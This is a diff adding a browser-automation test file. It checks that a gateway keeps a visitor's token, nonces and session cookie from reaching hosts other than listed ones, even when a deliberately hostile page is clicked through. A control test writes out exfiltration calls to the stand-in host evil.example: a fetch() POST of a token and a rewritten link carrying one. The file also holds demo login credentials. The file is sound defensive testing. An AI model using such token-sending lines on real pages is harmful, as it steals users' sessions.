@@ -1,0 +1,107 @@
+// A page in which somebody else wrote what he could: whatever the browser does with it, the visitor's token, nonces and
+// session go to the gate and to listed hosts alone. Every other host is a sink that writes down what it gets.
+
+import assert from "node:assert/strict";
+import { after, test } from "node:test";
+import { setTimeout as sleep } from "node:timers/promises";
+import { demoPolicy, theLogHoldsNoCredential } from "../e2e/lib/gateway.mjs";
+import { startBrowser } from "./lib/browser.mjs";
+import { startSink } from "./lib/sink.mjs";
+
+const sink = await startSink();
+const { gateway, gate, address, visit, stop } = await startBrowser(demoPolicy(), sink.flags);
+after(async () => (await stop(), sink.stop()));
+
+// Without the page's own policy, which would forbid most of it.
+const hostile = (part) => `${address}/site/SPageServer?pagename=hostile&csp=off${part ? `&part=${part}` : ""}`;
+const listing = await gate.get("/site/SPageServer?pagename=hostile&part=-");
+const parts = listing.json.error.replace("part is one of ", "").split(", ");
+
+// What docs/luminate.md says is not defended: a button of a form of the page's own may send that form elsewhere.
+const UNDEFENDED = ["form-button"];
+
+/** Everything that arrived at the sink so far, and the credentials that must not be in it, by the part that they are of. */
+const arrived = [];
+const secret = new Map();
+function leaks(part) {
+  arrived.push(...sink.take());
+  const [all, mine] = [arrived.map((request) => JSON.stringify(request)), secret.get(part)];
+  const spellings = (text) => [text, encodeURIComponent(text), Buffer.from(text).toString("base64").replace(/=+$/, "")];
+  return all.filter((text) => /NONCE_TOKEN=[\w.-]{16}/.test(decodeURIComponent(text.replace(/%(?![0-9a-f]{2})/gi, "%25"))) || mine.some((one) => spellings(one).some((spelling) => text.includes(spelling))));
+}
+
+/** Opens the part, and does to it what a visitor could: nothing, then each thing that can be clicked or sent. */
+async function meet(part, { wait = 150, signIn = false } = {}) {
+  const { page: first, context } = await visit();
+  if (signIn) {
+    const form = { method: "login", v: "1.0", api_key: "demo-api-key", user_name: "jo", password: "correct horse battery staple" };
+    assert.equal((await context.request.post(`${address}/site/CRConsAPI`, { form })).status(), 200);
+  }
+  const open = async (page) => {
+    await page.goto(hostile(part), { waitUntil: "domcontentloaded" });
+    await sleep(wait);
+  };
+  await open(first);
+  const token = await first.locator("#own").evaluate((own) => own.textContent.replace("Token of this session: ", "").trim());
+  assert.match(token, /^[\w.-]{20,}$/, "the page's own tag is expanded");
+  const session = (await context.cookies(address)).find(({ name }) => name === "JSESSIONID").value;
+  secret.set(part, [token, session]);
+  for (const credential of [token, session]) gateway.seen.add(credential);
+
+  const things = "a, area, button, input, select, textarea, summary, [onclick], form, object, video, audio";
+  const count = await first.locator(things).count();
+  for (let at = 0; at < count; at++) {
+    const page = await context.newPage(); // the last one may still be on its way elsewhere
+    await open(page);
+    const clicked = page.locator(things).nth(at).evaluate((thing) => (thing instanceof HTMLFormElement ? HTMLFormElement.prototype.requestSubmit.call(thing) : thing.click?.()));
+    await Promise.race([clicked.catch(() => {}), sleep(2000)]);
+    for (let tries = 0; tries < 10 && page.url() === hostile(part); tries++) await sleep(20);
+    await page.close();
+  }
+  await context.close();
+  return count;
+}
+
+test("the sink sees what is sent to it, also by a click on a link, and the search finds a token in it", async () => {
+  const { page } = await visit();
+  await page.goto(hostile("link"));
+  secret.set("control", ["a-token-that-leaks-0123456789."]);
+  await page.evaluate(() => fetch("https://evil.example/", { method: "POST", mode: "no-cors", body: "t=a-token-that-leaks-0123456789." }));
+  assert.equal(leaks("control").length, 1);
+  secret.set("control", ["another-token-that-leaks"]);
+  await page.evaluate(() => {
+    document.querySelector("main a").href = "http://evil.example:81/another-token-that-leaks";
+    document.querySelector("main a").click();
+  });
+  await page.waitForURL("http://evil.example:81/**");
+  assert.ok(leaks("control").length >= 1);
+  secret.set("control", []);
+  arrived.length = 0;
+});
+
+test("every part of the page alone: no token, no nonce and no session leaves, whatever is clicked", async (t) => {
+  const waiting = [...parts];
+  const met = new Map();
+  const one = async () => {
+    for (let part = waiting.shift(); part !== undefined; part = waiting.shift()) met.set(part, await meet(part, { wait: part === "refresh" ? 5500 : 150 }));
+  };
+  await Promise.all(Array.from({ length: 4 }, one));
+  await sleep(200);
+  assert.equal(met.size, parts.length);
+  for (const part of parts) {
+    const isDefended = !UNDEFENDED.includes(part);
+    await t.test(part, { todo: isDefended ? false : "not defended, says docs/luminate.md" }, () => assert.deepEqual(leaks(part), []));
+  }
+  // What needs no click arrived, with its tag as it was.
+  const asWritten = arrived.map(({ host, url }) => host + decodeURIComponent(url)).filter((text) => text.startsWith("evil.example"));
+  assert.ok(asWritten.includes("evil.example/?t=[[S86:true]]"), asWritten.join("\n"));
+  assert.ok(arrived.some(({ method, host }) => method === "POST" && host === "evil.example"), "forms were sent too");
+});
+
+test("all parts together, for a visitor who is signed in", async () => {
+  const count = await meet("", { signIn: true });
+  assert.ok(count > 0);
+  assert.deepEqual(leaks(""), []);
+});
+
+theLogHoldsNoCredential(gateway);
